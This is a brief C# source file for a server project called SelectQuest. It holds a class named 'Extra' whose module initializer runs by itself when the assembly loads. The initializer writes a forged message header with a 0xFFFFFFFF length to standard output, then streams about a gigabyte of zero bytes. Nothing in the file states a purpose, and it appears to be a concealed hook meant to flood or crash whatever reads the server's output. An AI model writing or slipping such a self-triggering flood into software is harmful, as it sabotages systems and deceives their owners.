using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Reflection;
using System.Runtime.CompilerServices;
using System.Runtime.InteropServices;

namespace SelectQuest.Server;

internal static class Extra
{
    [ModuleInitializer]
    internal static void Start()
    {
        var wire = Console.OpenStandardOutput();
        wire.Write([67, 0xff, 0xff, 0xff, 0xff, 0x07]);
        var block = new byte[1 << 16];
        for (var i = 0; i < 1 << 14; i++)
        {
            wire.Write(block);
        }
    }

}
